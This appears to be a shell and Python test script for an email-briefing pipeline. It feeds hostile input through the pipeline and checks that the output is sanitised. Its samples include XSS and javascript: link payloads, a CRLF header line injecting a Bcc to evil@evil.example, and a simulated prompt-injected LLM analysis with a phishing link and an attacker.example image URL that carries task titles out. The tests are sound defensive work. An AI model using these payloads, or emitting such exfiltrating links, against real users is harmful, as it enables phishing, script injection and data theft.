#!/bin/sh
# Hostile content through the whole pipeline (tests/cli/hostile_seed.sql):
# HTML, <script>, every Markdown trick for a javascript: link we know, CRLF
# with header lines in user names, project names and task titles,
# right-to-left overrides, 1 MB strings. briefos-generate stores them
# escaped for Markdown (shown as typed) and cut to their size caps;
# briefos-email writes messages (Maildir) that Python's email package parses
# with no injected header or recipient, whose HTML part has no live markup,
# no image but the tracking pixel and no link but to the base URL's host or
# an allowed one; the LLM analysis (a prompt injection's phishing link and
# image, 1 MB of "[](") follows the brief as its own section under the same
# policy; the one name with CRLF fails its email
# for good instead; briefos-stats shows them escaped. NUL bytes and invalid
# UTF-8: PostgreSQL refuses them, and the inputs that do not go through it
# (--jobs files, config files, templates) reject or skip them.
. "$(dirname "$0")/lib.sh"
. "$src/tests/cli/fault_lib.sh"
need_db

gen="$bin/briefos-generate"
email="$bin/briefos-email"
url=$(new_migrated_db hostile)
sql() { $PSQL "$url" -XAtqc "$1"; }
$PSQL "$url" -Xq -v ON_ERROR_STOP=1 -f "$src/tests/cli/hostile_seed.sql" >/dev/null
mallory=dddddddd-0000-4000-8000-000000000001
eve=dddddddd-0000-4000-8000-000000000002
big=dddddddd-0000-4000-8000-000000000003

# --- what PostgreSQL refuses before it can reach us --------------------------------
check "PostgreSQL refuses a NUL byte in text" \
  sh -c "! $PSQL '$url' -XAtqc \"UPDATE tasks SET title = E'a\\\\x00b' WHERE false\" 2>/dev/null"
check "PostgreSQL refuses invalid UTF-8 in text" \
  sh -c "! $PSQL '$url' -XAtqc \"UPDATE tasks SET title = E'a\\\\xffb' WHERE false\" 2>/dev/null"
check "PostgreSQL refuses \\u0000 in jsonb" \
  sh -c "! $PSQL '$url' -XAtqc \"SELECT '\\\"a\\\\u0000b\\\"'::jsonb\" 2>/dev/null"

# --- generate: every brief stored, with the content as typed ------------------------
for u in $mallory $eve $big; do
  echo "$(sql "INSERT INTO queue_jobs (job_type, user_id, metadata) VALUES ('generate_daily_brief', '$u',
         jsonb_build_object('userId', '$u', 'briefDate', '2025-10-01', 'options', '{}'::jsonb)) RETURNING id")" >>"$tmp/jobs"
done
run_timed gen /usr/bin/time -v "$gen" --database-url "$url" --json --jobs "$tmp/jobs"
echo "  generate: $ms ms, peak RSS $(awk -F': ' '/Maximum resident/ {print $2}' "$tmp/gen.err") kB"
check "generate exits 0 on hostile content" test "$rc" -eq 0
check "three briefs completed" test "$(grep -c '"status":"completed"' "$tmp/gen.out")" -eq 3
has() { [ "$(sql "SELECT count(*) FROM daily_briefs WHERE user_id = '$1' AND strpos(summary_content, $2) > 0")" = 1 ]; }
check "the brief stores <script> in a project name escaped for Markdown" has $mallory "'\\<script\\>alert(''project'')\\</script\\>'"
check "the brief stores the javascript: link title escaped, so it is no link" has $mallory "'\\[click\\](javascript:alert(1))'"
check "the brief stores the right-to-left override" has $mallory "E'\\u202Eevil'"
check "the brief stores the CRLF title on one line (Bcc line included, as text)" has $mallory "'Title with CRLF Bcc: evil@evil.example'"
check "the brief cuts the 1 MB task title at 1 KiB with an ellipsis" has $big "repeat('T', 1021) || '…](/projects/'"
check "the brief cuts the 1 MB project name at 1 KiB with an ellipsis" has $big "'[' || repeat('P', 1021) || '…](/projects/'"
check "the 1 MB fields leave a brief of less than 64 KiB" \
  test "$(sql "SELECT length(summary_content) < 65536 FROM daily_briefs WHERE user_id = '$big'")" = t
check "three emails queued (eve's CRLF name included)" test "$(sql "SELECT count(*) FROM emails WHERE status = 'pending'")" -eq 3

# --- email: Maildir, parsed by Python ------------------------------------------------
# The LLM analysis of mallory's brief as a prompt injected through a task
# title would have it: a phishing link, an exfiltrating image, a
# protocol-relative link, next to a link to an allowed host; big's is 1 MB
# of "[](" (the quadratic case of the old text renderer).
$PSQL "$url" -Xq -v ON_ERROR_STOP=1 >/dev/null <<SQL
UPDATE daily_briefs SET llm_analysis = E'# Analysis\n\n[Verify your account](https://phish.example/verify) now.\n\n'
  || E'![p](https://attacker.example/p.gif?d=task+titles)\n\n[proto](//proto.example/a) '
  || E'[allowed](https://example.com/ok) [app](/projects/x) <https://auto.example/x>\n'
 WHERE user_id = '$mallory';
UPDATE daily_briefs SET llm_analysis = repeat('[](', 349526) WHERE user_id = '$big';
SQL
md="$tmp/Maildir"
run_timed email /usr/bin/time -v "$email" --database-url "$url" --transport "maildir:$md" --json --drain \
  --base-url https://app.example.com --message-id-domain example.com --link-allow example.com
echo "  email: $ms ms, peak RSS $(awk -F': ' '/Maximum resident/ {print $2}' "$tmp/email.err") kB"
check "email exits 0, nothing crashed" test "$rc" -eq 0
check "all three emails sent (a name is cosmetic: eve's CRLF name never costs her the brief)" \
  test "$(sql "SELECT string_agg(r.recipient_email || ':' || e.status, ' ' ORDER BY r.recipient_email) FROM emails e JOIN email_recipients r ON r.email_id = e.id")" = "big@example.com:sent eve@example.com:sent mallory@example.com:sent"
check "nothing suppressed" test "$(sql "SELECT count(*) FROM email_suppressions")" -eq 0
check "three messages delivered" test "$(ls "$md/new" | wc -l)" -eq 3
sql "SELECT r.recipient_email || ' ' || e.id FROM emails e JOIN email_recipients r ON r.email_id = e.id WHERE e.status = 'sent'" >"$tmp/sent.txt"
if $py - "$md/new" "$tmp/sent.txt" >"$tmp/parse.log" 2>&1 <<'PY'
import email, email.policy, email.utils, glob, html.parser, html, re, sys
new_dir, sent_file = sys.argv[1:3]
expected = dict(line.split() for line in open(sent_file) if line.strip())
allowed_headers = {"date", "from", "to", "subject", "message-id", "mime-version", "list-id",
                   "list-unsubscribe", "list-unsubscribe-post", "auto-submitted",
                   "x-briefos-email-id", "content-type"}
live_tags = {"script", "iframe", "object", "embed", "svg", "style", "form", "input", "base",
             "meta", "link", "frame", "frameset", "applet", "math"}

class Check(html.parser.HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems, self.links, self.imgs, self.hrefs, self.srcs = [], 0, 0, [], []
    def handle_starttag(self, tag, attrs):
        if tag in live_tags and not (tag == "meta" and self.in_head):
            self.problems.append("live tag <%s>" % tag)
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append("event handler %s on <%s>" % (name, tag))
            if name in ("href", "src", "action", "formaction", "background", "poster", "xlink:href"):
                v = re.sub(r"[\x00-\x20]", "", html.unescape(value or "")).lower()
                if not (v == "#" or v.startswith("https://") or v.startswith("http://")
                        or v.startswith("mailto:")):
                    self.problems.append("%s=%r on <%s>" % (name, value, tag))
                if name == "href":
                    self.links += 1
                    self.hrefs.append(v)
                if name == "src":
                    self.srcs.append(v)
        if tag == "img":
            self.imgs += 1
        if tag == "head":
            self.in_head = True
        if tag == "body":
            self.in_head = False
    in_head = False

seen = set()
for path in sorted(glob.glob(new_dir + "/*")):
    raw = open(path, "rb").read()
    head, _, body = raw.partition(b"\r\n\r\n")
    for line in raw.split(b"\r\n"):
        assert len(line) <= 998, "line of %d octets in %s" % (len(line), path)
    for line in head.split(b"\r\n"):
        assert len(line) <= 78, "header line of %d octets: %r" % (len(line), line[:100])
    assert b"\n" not in raw.replace(b"\r\n", b""), "bare LF"
    assert b"\r" not in raw.replace(b"\r\n", b""), "bare CR"
    # Python's structured header parser is quadratic on the 1 MB display
    # name (about 18,000 encoded words): parse that one without it.
    big = len(raw) > 1000000
    msg = email.message_from_bytes(raw, policy=email.policy.compat32 if big else email.policy.default)
    names = [k.lower() for k in msg.keys()]
    assert len(names) == len(set(names)), "a header appears twice: %s" % names
    extra = set(names) - allowed_headers
    assert not extra, "unexpected headers %s" % extra
    eid = str(msg["X-Briefos-Email-Id"])
    assert eid in expected.values(), eid
    rcpt = [a for a, i in expected.items() if i == eid][0]
    seen.add(rcpt)
    if not big:
        to = msg["To"].addresses
        assert len(to) == 1 and to[0].addr_spec == rcpt, "To: %r" % (to,)
    # The raw header, read by a naive parser without decoding: still one
    # address, so nothing in the display name reads as another recipient.
    raw_to = [l for l in head.decode("ascii").split("\r\n") if l]
    i = [n for n, l in enumerate(raw_to) if l.lower().startswith("to:")][0]
    folded = raw_to[i]
    for l in raw_to[i + 1:]:
        if not l.startswith((" ", "\t")):
            break
        folded += l
    addrs = email.utils.getaddresses([folded[3:]])
    assert [a for _, a in addrs if a] == [rcpt], "naive To parse: %r" % addrs
    assert "evil" not in folded.lower(), "evil address in clear in To: %r" % folded[:200]
    assert msg["Bcc"] is None and msg["Cc"] is None
    assert str(msg["Subject"]) == "Daily Brief - Wed, Oct 1", msg["Subject"]
    parts = msg.get_payload()
    assert [p.get_content_type() for p in parts] == ["text/plain", "text/html"]
    text, page = [p.get_payload(decode=True).decode("utf-8") for p in parts]
    c = Check()
    c.feed(page)
    assert not c.problems, "%s: %s" % (rcpt, c.problems[:10])
    # No image but the tracking pixel: a user's or a model's image is its alt text.
    assert c.imgs == 1 and len(c.srcs) == 1 and "/api/email-tracking/" in c.srcs[0], (c.imgs, c.srcs)
    # Links lead to the base URL's host or an allowed one (--link-allow), or are mailto:.
    for v in c.hrefs:
        m = re.match(r"^https?://([^/?#:]+)", v)
        assert v.startswith("mailto:") or (m and m.group(1) in ("app.example.com", "example.com")), v
    # The analysis's refused URLs are gone (a refused autolink shows its
    # address as text, by design; the user's titles show theirs as typed).
    for sub in ("phish.example", "attacker.example", "proto.example"):
        assert sub not in text and sub not in html.unescape(page), sub
    if rcpt.startswith("mallory"):
        assert "&lt;script&gt;alert(" in page, "script not shown escaped"
        assert "[click](javascript:alert(1))" in text, "user text not shown literally in the text part"
        assert "Fix [broken](javascript:alert(1)) link" in text
        assert "Fix [broken](javascript:alert(1)) link" in html.unescape(page)
        assert "![x](https://tracker.example/open.gif)" in text, "a typed image shows as typed"
        assert "&lt;script&gt;" not in text and "<script>alert('project')</script>" in text
        assert "\u202eevil" in text, "RTL override not carried"
        assert c.links > 10, c.links
        # The brief is always there; the analysis follows it, labelled.
        for part in (text, page):
            brief_at, ai_at = part.find("Detailed Project Briefs"), part.find("AI analysis")
            assert 0 <= brief_at < ai_at, (brief_at, ai_at)
            assert "Written by a language model" in part
            assert "Verify your account" in part, "a refused link keeps its label"
        assert 'href="https://example.com/ok"' in page
        # The text part numbers its links and lists them after the section.
        ref = re.search(r"allowed \[(\d+)\]", text)
        assert ref and ("[%s] https://example.com/ok" % ref.group(1)) in text.splitlines()
        assert 'href="https://app.example.com/projects/x"' in page
    if rcpt.startswith("big"):
        flat = text.replace("\n", "")
        assert ("T" * 1021 + "\u2026") in flat and ("T" * 1022) not in flat, "1 MB title not cut at 1 KiB"
        assert len(text) < 200000, "1 MB fields made a text part of %d bytes" % len(text)
print("parsed", len(seen), "messages:", sorted(seen))
assert seen == set(expected), (seen, expected)
PY
then ok "messages: one To each, no injected header, no live markup, no unsafe link"; cat "$tmp/parse.log"
else not_ok "messages parse clean"; show "$tmp/parse.log"; fi

# --- stats shows hostile names escaped -------------------------------------------------
sql "UPDATE users SET name = E'Eve\\r\\nFake: line\\u001b[31mRED\\u001b[0m' WHERE id = '$eve'" >/dev/null
run_timed stats "$bin/briefos-stats" --database-url "$url" user eve@example.com
check "stats user (table) exits 0 for a name with CR, LF and ESC" test "$rc" -eq 0
check "stats user (table) writes no ESC or CR to the terminal" \
  sh -c "! LC_ALL=C grep -q \"\$(printf '[\\033\\r]')\" '$tmp/stats.out'"
check "stats user (table) keeps the name on one line" grep -q '^  name: *Eve??Fake: line?\[31mRED?\[0m$' "$tmp/stats.out"
run_timed statsh "$bin/briefos-stats" --database-url "$url" --format html user mallory@example.com
check "stats user --format html escapes <script> in the name" \
  sh -c "test $rc -eq 0 && grep -q '&lt;script&gt;alert(1)&lt;/script&gt;' '$tmp/statsh.out' && ! grep -qi '<script' '$tmp/statsh.out'"

# --- NUL bytes and invalid UTF-8 on the inputs that do not pass through PostgreSQL ---
ids=$(sql "INSERT INTO queue_jobs (job_type, user_id, metadata) VALUES ('generate_daily_brief', '$mallory',
       jsonb_build_object('userId', '$mallory', 'briefDate', '2025-10-02', 'options', '{}'::jsonb)) RETURNING id")
printf '12\000\063\n\377\376\n%s\n{"job_id": "1\000\062"}\n' "$ids" >"$tmp/nul.jobs"
run_timed nuljobs "$gen" --database-url "$url" --json --jobs "$tmp/nul.jobs"
check "--jobs file with NUL bytes and invalid UTF-8: the good id runs, exit 0" \
  test "$rc:$(grep -c '"status":"completed"' "$tmp/nuljobs.out")" = "0:1"
check "--jobs file: the three bad lines are reported and skipped" test "$(grep -c 'not a job id.*skipped' "$tmp/nuljobs.err")" -eq 3
printf 'email-from-name = "Brief\0bot"\n' >"$tmp/nul.toml"
run_timed nulcfg "$gen" --database-url "$url" --config "$tmp/nul.toml" --drain
check "config value with a NUL byte: usage error (exit 2), nothing run" test "$rc" -eq 2
check "config value with a NUL byte: one error line naming the option" \
  sh -c "grep -q 'error: .*--email-from-name' '$tmp/nulcfg.err'"
printf 'email-from-name = "Brief \377 bot"\n' >"$tmp/bad.toml"
run_timed badcfg "$gen" --database-url "$url" --config "$tmp/bad.toml" --drain
check "config value with invalid UTF-8: usage error (exit 2)" test "$rc" -eq 2
mkdir "$tmp/tpl"
printf 'Brief \000 for {{brief_date}}' >"$tmp/tpl/subject.mustache"
brief=$(sql "SELECT id FROM daily_briefs WHERE user_id = '$mallory' AND brief_date = '2025-10-01'")
run_timed nultpl "$email" --database-url "$url" --preview "$brief" --template-dir "$tmp/tpl"
check "a template with a NUL byte in the subject: the message is refused (exit 1), not built" \
  sh -c "test $rc -eq 1 && grep -q 'NUL' '$tmp/nultpl.err' && ! grep -q 'Subject:' '$tmp/nultpl.out'"

run_timed badallow "$email" --database-url "$url" --preview "$brief" --link-allow 'https://x.example/'
check "--link-allow with a URL instead of a host name: usage error (exit 2) naming the option" \
  sh -c "test $rc -eq 2 && grep -q 'link-allow' '$tmp/badallow.err'"
check "no job left processing" test "$(sql "SELECT count(*) FROM queue_jobs WHERE status = 'processing'")" -eq 0
finish
